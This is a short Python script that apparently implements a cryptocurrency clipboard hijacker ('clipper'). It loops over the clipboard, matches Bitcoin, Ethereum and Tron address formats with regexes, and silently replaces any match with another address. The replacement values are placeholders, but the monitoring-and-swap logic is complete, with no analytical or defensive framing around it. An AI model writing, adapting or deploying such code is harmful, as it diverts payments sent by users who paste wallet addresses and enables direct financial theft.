import re, time, pyperclip
MAP = {r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$": "bc1q-not-a-real-address", r"^0x[0-9a-fA-F]{40}$": "0x" + "0" * 40, r"^T[1-9A-HJ-NP-Za-km-z]{33}$": "T-not-real"}
last = ""
while True:
    c = pyperclip.paste().strip()
    if c != last:
        for k, v in MAP.items():
            if re.match(k, c):
                pyperclip.copy(v)
        last = pyperclip.paste()
    time.sleep(0.4)
